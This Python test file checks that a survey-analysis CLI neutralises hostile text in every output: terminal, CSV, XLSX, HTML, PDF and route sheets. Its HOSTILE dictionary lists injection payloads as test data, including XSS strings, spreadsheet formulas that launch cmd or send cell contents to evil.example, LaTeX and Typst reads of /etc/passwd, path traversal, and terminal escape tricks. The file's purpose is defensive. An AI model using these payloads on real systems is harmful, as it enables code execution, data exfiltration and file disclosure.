"""Every hostile text, in every place a text can come from, looked at in everything it comes out of.

In: tags, notes, areas, stations, equipment, an unknown header, the file's name, the site's TOML,
the header map. Out: the terminal, CSV, XLSX, the owner's page, PDF, the plan, the route's sheets,
errors.
"""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result
from pypdf import PdfReader

from survey.cli import main
from survey.findings import Findings

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": "\"'><img src=x onerror=alert(1)>",
    "closing": "</td></table></style></title><svg onload=alert(1)>",
    "entity": "&lt;b&gt; &#x3c;script&#x3e;",
    "comment": "--><!-- ]]> <![CDATA[",
    "markdown link": "[press](javascript:alert(1))",
    "markdown picture": "![x](https://evil.example/x.png)",
    "markdown table": "| a | b |\n|---|---|\n# head",
    "latex": r"\input{/etc/passwd} $\write18{id}$ % \end{document}",
    "typst": '#read("/etc/passwd") #import "x.typ" $ x $ @label <label>',
    "template": "{{ 7 * 7 }}{% raw %}${7*7}%(x)s%n",
    "formula": '=HYPERLINK("https://evil.example/"&A1,"press")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind space": " \u00a0=1+1",
    "formula behind quote": "'=1+1",
    "formula full width": "＝1+1",
    "formula behind a tab": "\t=1+1",
    "path": "../../../etc/passwd",
    "path of windows": r"..\..\C:\windows\x.ini",
    "right to left": "ab\u202egpj.exe",
    "isolate": "\u2066ab\u2069\u200f",
    "ansi": "\x1b[31mred\x1b[2J\x1b]8;;https://evil.example\x07press\x1b]8;;\x07",
    "ansi of one byte": "\x9b31mred",
    "bell and backspace": "ab\x07\x08\x08cd",
    "null": "ab\x00cd",
    "carriage return": "safe\rEVIL",
    "line separator": "ab\u2028cd\u2029ef\x85gh",
    "long": "x" * 200_000,
    "long without end": "<" * 200_000,
    "combining": "a" + "\u0301" * 500,
}
PLACES = (
    "tag", "note", "odd header",
    *(pytest.param(name, marks=pytest.mark.thorough) for name in ("area", "station", "equipment")),
)  # fmt: skip
ALLOWED_CONTROLS = {"\n"}
FORMULA = re.compile(r"^[\s\u00a0]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[+-]?\d+\.?\d*(e[+-]?\d+)?", re.IGNORECASE)


def dangerous(text: str) -> list[str]:
    """Return the characters that could move a cursor, hide text or turn it round."""
    bidi = set("\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    return sorted({
        mark for mark in text
        if (unicodedata.category(mark) == "Cc" and mark not in ALLOWED_CONTROLS) or mark in bidi
    })


def starts_formula(cell: str) -> bool:
    return bool(FORMULA.match(cell)) and not NUMBER.fullmatch(cell)


class Page(HTMLParser):
    """What a browser would act on in a page."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.scripts = 0
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        if tag in ("iframe", "object", "embed", "form", "base", "img", "video", "audio"):
            self.found.append(tag)
        for name, value in attrs:
            said = value or ""
            # An aria-label is read out, never followed.
            if name.startswith("on") or (name != "aria-label" and "javascript:" in said):
                self.found.append(f"{tag} {name}={said[:60]}")
            if name in ("href", "src", "action", "xlink:href") and not (
                said.startswith("#") or said == "data:,"
            ):
                self.found.append(f"{tag} {name}={said[:60]}")


def run(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


def write_round(path: Path, place: str, texts: list[str]) -> int:
    """Write two ordinary rows and one for each text, in one place; return how many."""
    head = ["tag", "device", "equipment", "area", "station", "inlet_temp_f", "outlet_temp_f",
            "supply_psig", "return_psig", "sound_db", "orifice_in", "note", "remark"]
    heads = [head + texts if place == "odd header" else head]
    rows = [[f"T-{at}", "trap", f"UH-{at}", "Hall", "North", "250", "245", "15", "0", "70", "0.15",
             "by the door", "x"] for at in range(2 + len(texts))]
    for row, text in zip(rows[2:], texts, strict=True):
        if place == "odd header":
            row += ["x"] * len(texts)
        else:
            row[head.index(place)] = text
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(heads + rows)
    return len(rows)


def plain(done: Result) -> None:
    assert done.exit_code in (0, 1, 2)
    assert dangerous(done.stdout) == []
    assert dangerous(done.stderr) == []
    assert "Traceback" not in done.output
    assert "fault in survey itself" not in done.stderr


@pytest.mark.parametrize("place", PLACES)
def test_hostile_text_is_harmless_in_everything_that_comes_out(tmp_path: Path, place: str) -> None:
    source, totals = tmp_path / "round.csv", tmp_path / "totals.json"
    rows = write_round(source, place, list(HOSTILE.values()))
    rejects, out = tmp_path / "rejects.csv", tmp_path / "out.parquet"
    done = run("analyze", source, "--out", out, "--rejects", rejects, "--summary", totals)
    plain(done)
    assert done.exit_code == 0, done.stderr
    counts = json.loads(totals.read_text(encoding="utf-8"))
    assert rows == counts["rows_read"] == counts["rows_judged"] + counts["rows_set_aside"]
    assert counts["rows_judged"] >= rows - 5  # three too long for a tag, two now alike
    findings = Findings.load(out)
    for ending in ("csv", "xlsx"):
        findings.save(tmp_path / f"out.{ending}")
    check_csv(tmp_path / "out.csv")
    check_csv(rejects)
    check_workbook(tmp_path / "out.xlsx")
    page, book = tmp_path / "page.html", tmp_path / "report.xlsx"
    plain(run("report", out, "--out", page))
    check_page(page)
    plain(run("report", out, "--out", book))
    check_workbook(book)
    plan = tmp_path / "plan.html"
    plain(run("pressure", source, "--to", "5", "--out", plan))
    assert Page(plan.read_text(encoding="utf-8")).found == []
    assert dangerous(plan.read_text(encoding="utf-8")) == []
    paper, sheet = tmp_path / "report.pdf", tmp_path / "route.html"
    plain(run("report", out, "--out", paper))
    check_paper(paper)
    phone, walk = tmp_path / "phone.html", tmp_path / "walk.csv"
    plain(run("route", out, "--out", sheet, "--phone", phone, "--csv", walk))
    for made in (sheet, phone):
        text = made.read_text(encoding="utf-8")
        assert [found for found in Page(text).found if found != "form"] == []
        assert dangerous(text) == []
        assert len(text) < 3_500_000
    check_csv(walk)


def check_paper(path: Path) -> None:
    """Check that nothing in a PDF runs, leads away or was read from this machine."""
    paper = PdfReader(path)
    assert "/OpenAction" not in paper.root_object
    assert not {"/JavaScript", "/EmbeddedFiles"} & set(paper.root_object.get("/Names", {}))
    links = [one.get_object().get("/A", {}) for page in paper.pages
             for one in page.get("/Annots", [])]
    assert not any({"/URI", "/Launch", "/JS"} & set(link) for link in links)
    text = "".join(page.extract_text() for page in paper.pages)
    assert "root:" not in text
    assert dangerous(text) == []
    assert path.stat().st_size < 2_000_000


def check_csv(path: Path) -> None:
    csv.field_size_limit(10_000_000)
    with path.open(encoding="utf-8", newline="") as stream:
        for row in csv.reader(stream):
            for cell in row:
                assert not starts_formula(cell), cell[:80]
                assert dangerous(cell) in ([], ["\t"]), cell[:80]


def check_workbook(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        assert not sheet._hyperlinks
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert not starts_formula(cell.value), cell.value[:80]
                    assert dangerous(cell.value) in ([], ["\t"])
                    assert len(cell.value) <= 32_767
    book.close()


def check_page(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    page = Page(text)
    assert page.found == []
    assert page.scripts == 1  # our own, let through by its hash
    assert dangerous(text) == []
    assert len(text) < 3_500_000


# The sharpest of each kind, for places where each needs a run of its own.
SHARP = {name: HOSTILE[name] for name in (
    "attribute", "markdown picture", "formula", "path", "right to left", "ansi", "ansi of one byte",
    "carriage return", "line separator", "long",
)}


@pytest.mark.thorough
@pytest.mark.parametrize("text", SHARP.values(), ids=SHARP.keys())
def test_a_file_name_is_harmless(tmp_path: Path, text: str) -> None:
    short = text.replace("/", "∕")[:60]
    source = tmp_path / f"{short}.csv"
    write_round(source, "note", ["ordinary"])
    out = tmp_path / "out.parquet"
    plain(run("analyze", source, source.with_name(f"no {short}.csv")))
    done = run("analyze", source, "--out", out)
    plain(done)
    assert done.exit_code == 0
    plain(run("report", out, "--out", tmp_path / f"{short}.pages"))
    plain(run("share", tmp_path / f"none {short}.parquet"))


@pytest.mark.thorough
@pytest.mark.parametrize(("key", "text"), [
    *(("name", text) for text in SHARP.values()),
    *((key, SHARP[name]) for key in ("currency", "unknown key", "station")
      for name in ("attribute", "ansi", "long")),
])
def test_the_sites_file_is_harmless(tmp_path: Path, key: str, text: str) -> None:
    quoted = json.dumps(text)  # a TOML basic string as well, surrogates aside
    site = tmp_path / "site.toml"
    site.write_text({
        "name": f"name = {quoted}\n", "currency": f"currency = {quoted}\n",
        "unknown key": f"{quoted} = 1\n",
        "station": f"[stations.{quoted}]\nsupply_psig = 15\nreturn_psig = 0\n",
    }[key].replace("\x7f", "\\u007F"), encoding="utf-8")
    source, out, page = tmp_path / "round.csv", tmp_path / "out.parquet", tmp_path / "page.html"
    write_round(source, "note", ["ordinary"])
    done = run("analyze", source, "--site", site, "--out", out)
    plain(done)
    if done.exit_code == 0:
        plain(run("report", out, "--out", page))
        check_page(page)


@pytest.mark.thorough
@pytest.mark.parametrize("text", SHARP.values(), ids=SHARP.keys())
def test_a_header_map_is_harmless(tmp_path: Path, text: str) -> None:
    source, mapped = tmp_path / "round.csv", tmp_path / "map.toml"
    write_round(source, "note", ["ordinary"])
    for line in (f'{json.dumps(text)} = "note"', f'"remark" = {json.dumps(text)}'):
        mapped.write_text(f"[columns]\n{line}\n", encoding="utf-8")
        plain(run("analyze", source, "--map", mapped))


@pytest.mark.thorough
@pytest.mark.parametrize("text", SHARP.values(), ids=SHARP.keys())
def test_a_links_label_and_folder_are_harmless(
    tmp_path: Path, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SURVEY_HOME", str(tmp_path / "home"))
    source, out = tmp_path / "round.csv", tmp_path / "out.parquet"
    write_round(source, "note", ["ordinary"])
    run("analyze", source, "--out", out)
    plain(run("share", out, "--label", text))
    plain(run("share", out, "--to", text[:60], "--areas", text))
    plain(run("share", out, "--base-url", text))
    listed = run("shares")
    plain(listed)
    assert len(listed.stdout) < 600
    plain(run("unshare", text))
